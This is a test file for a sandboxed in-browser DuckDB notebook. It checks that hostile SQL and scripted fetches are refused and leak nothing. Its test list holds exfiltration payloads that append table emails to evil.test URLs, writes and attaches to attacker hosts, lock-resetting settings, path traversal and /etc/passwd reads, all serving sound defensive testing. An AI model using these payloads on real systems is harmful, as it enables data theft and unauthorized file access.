import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { serve } from "./support/serve.ts";
import { harnessFolder } from "./support/folders.ts";
import { ask, register, start } from "./support/harnessCalls.ts";
import { visit } from "./support/visit.ts";
import type { Visit } from "./support/visit.ts";

let at: Visit;
let ownRequests: number;

beforeAll(async () => {
  at = await visit({ root: harnessFolder });
  await start(at.page);
  await register(at.page, "orders", ["email,amount\nann@example.com,1\n"]);
  await ask(at.page, "create table orders as from read_csv('nb1/f1.csv')");
  ownRequests = at.site.requests.length;
});

afterAll(() => at.close());

function expectNoRequest(): void {
  expect(at.site.requests.slice(ownRequests)).toEqual([]);
  expect(at.proxy.strays).toEqual([]);
}

it("asked its host for its own files only: page, script, two engine files", () => {
  expect(at.site.requests.map((line) => line.replace(/-[\w-]+\./, "-*."))).toEqual([
    "GET /",
    "GET /assets/index-*.js",
    expect.stringMatching(/^GET \/engine\/duckdb-/),
    expect.stringMatching(/^GET \/engine\/duckdb-/),
  ]);
  expect(at.proxy.strays).toEqual([]);
});

const evil = "http://evil.test";

describe("hostile SQL is refused and asks nobody anything", () => {
  it.each([
    // out by reading
    `from read_csv('${evil}/?' || (select string_agg(email, ',') from orders))`,
    `from read_csv('${evil}/x.csv')`,
    `from read_csv('https://evil.test/x.csv')`,
    `from read_csv(['${evil}/x.csv'])`,
    `from read_csv('s3://evil/x.csv')`,
    `from read_csv('gs://evil/x.csv')`,
    `from read_csv('hf://datasets/evil/x.csv')`,
    `from read_text('${evil}/x')`,
    `from read_blob('${evil}/x')`,
    `from glob('${evil}/*')`,
    `from sniff_csv('${evil}/x.csv')`,
    `from '${evil}/x.csv'`,
    `from '${evil}/x.parquet'`,
    `from read_parquet('${evil}/x.parquet')`,
    `from read_json('${evil}/x.json')`,
    `copy orders from '${evil}/x.csv'`,
    `from read_csv('/?d=secret')`,
    `from read_csv('HERE/?d=secret')`,
    `from read_csv('blob:HERE/x')`,
    `from read_csv('data:text/csv,a')`,
    // out by writing
    `copy orders to '${evil}/y.csv'`,
    `copy orders to 's3://evil/y.csv'`,
    `copy orders to 'HERE/y.csv'`,
    `copy orders to 'nb2/y.csv'`,
    `export database '${evil}/e'`,
    // in by code
    `import database '${evil}/e'`,
    `attach '${evil}/a.db'`,
    `attach 'HERE/a.db' as a`,
    `load '${evil}/x.duckdb_extension.wasm'`,
    `install httpfs`,
    `install httpfs from '${evil}'`,
    `force install json`,
    `update extensions`,
    `select timestamptz '2024-01-01' at time zone 'Asia/Shanghai'`,
    `select now()::date - current_date`,
    `select '{}'::json`,
    `select json_extract('{}', '$.a')`,
    `from read_xlsx('nb1/f1.csv')`,
    `create secret (type s3, key_id 'a', secret 'b', endpoint 'evil.test')`,
    `create persistent secret s (type http, extra_http_headers map {'a': 'b'})`,
    // out of the lock
    `set enable_external_access = true`,
    `set lock_configuration = false`,
    `set global allowed_directories = ['']`,
    `set s3_endpoint = 'evil.test'`,
    `set memory_limit = '1MB'`,
    `set http_proxy = 'evil.test'`,
    `set profiling_output = 'nb2/p'`,
    `set custom_extension_repository = '${evil}'`,
    `set temp_directory = 'nb1/tmp'`,
    `reset s3_endpoint`,
    `reset lock_configuration`,
    `pragma enable_profiling`,
    `call pragma_set('lock_configuration', false)`,
    `use memory`,
    `set variable u = (select string_agg(email, ',') from orders)`,
    // to other files
    `from read_text('nb2/f1.csv')`,
    `from read_text('nb1/../nb2/f1.csv')`,
    `from read_text('nb1//../nb2/f1.csv')`,
    `from read_text('./nb1/../nb2/f1.csv')`,
    `from read_text('NB1/f1.csv')`,
    `from read_text('/nb1/f1.csv')`,
    `from read_text('f1.csv')`,
    `from glob('*')`,
    `from glob('nb*/*')`,
    `from read_csv('opfs://x.csv')`,
    `copy orders to 'opfs://x.csv'`,
    `attach 'opfs://x.db' as o`,
    `from read_text('file:///etc/passwd')`,
    `from read_text('/etc/passwd')`,
    `select 1; select 2`,
  ])("%s", async (sql) => {
    const { code } = await ask(at.page, sql.replace("HERE", at.site.origin));
    expect(["refused", "query"]).toContain(code);
    expectNoRequest();
  });

  it("and the engine goes on as if nothing had been", async () => {
    const { rows } = await ask(at.page, "select email, amount::integer as amount from orders");
    expect(rows).toEqual([{ email: "ann@example.com", amount: 1 }]);
    const files = await ask(at.page, "from glob('nb1/*')");
    expect(files.rows).toEqual([{ file: "nb1/f1.csv" }]);
    const locked = `select name, value from duckdb_settings() where name in (
      'enable_external_access', 'lock_configuration', 'autoload_known_extensions',
      'autoinstall_known_extensions', 'temp_directory', 'preserve_insertion_order'
    ) order by name`;
    expect((await ask(at.page, locked)).rows).toEqual([
      { name: "autoinstall_known_extensions", value: "false" },
      { name: "autoload_known_extensions", value: "false" },
      { name: "enable_external_access", value: "false" },
      { name: "lock_configuration", value: "true" },
      { name: "preserve_insertion_order", value: "true" },
      { name: "temp_directory", value: "" },
    ]);
  });
});

it("leaves a worker no way out even without the lock: the policy alone holds", async () => {
  const outcomes = await at.page.evaluate(
    async (urls) => {
      const script = `onmessage = async ({ data }) => {
      const outcomes = [];
      for (const url of data) {
        outcomes.push(await fetch(url, { mode: "no-cors" }).then(() => "fetched", () => "blocked"));
        const request = new XMLHttpRequest();
        try { request.open("GET", url, false); request.send(); outcomes.push("sent"); }
        catch { outcomes.push("blocked"); }
      }
      postMessage(outcomes);
    }`;
      const worker = new Worker(URL.createObjectURL(new Blob([script])));
      worker.postMessage(urls);
      return new Promise((resolve) => {
        worker.onmessage = ({ data }) => resolve(data);
      });
    },
    [`${at.site.origin}/?d=secret`, `${evil}/?d=secret`, "https://evil.test/?d=secret"],
  );
  expect(outcomes).toEqual(Array.from({ length: 6 }, () => "blocked"));
  expectNoRequest();
});

it("leaves the page no way out either", async () => {
  const outcomes = await at.page.evaluate(
    (urls) =>
      Promise.all(
        urls.map((url) =>
          fetch(url, { mode: "no-cors" }).then(
            () => "fetched",
            () => "blocked",
          ),
        ),
      ),
    [`${at.site.origin}/?d=secret`, `${evil}/?d=secret`],
  );
  expect(outcomes).toEqual(["blocked", "blocked"]);
  expectNoRequest();
});

it("would have been seen by the proxy and the host, had it got out", async () => {
  const bare = await serve({
    root: harnessFolder,
    headers: {},
    answer: (_, response) => {
      response.writeHead(200, { "Content-Type": "text/html" }).end("<title>no policy</title>");
      return true;
    },
  });
  at.proxy.allow(bare.origin);
  const page = await at.browser.newPage();
  await page.goto(bare.url);
  await page.evaluate(
    async (urls) => {
      for (const url of urls) await fetch(url, { mode: "no-cors" }).catch(() => undefined);
    },
    ["/?d=secret", `${evil}/?d=secret`, "https://evil.test/"],
  );
  expect(bare.requests).toContain("GET /?d=secret");
  expect(at.proxy.strays).toEqual([`GET ${evil}/?d=secret`, "CONNECT evil.test:443"]);
  await bare.close();
});
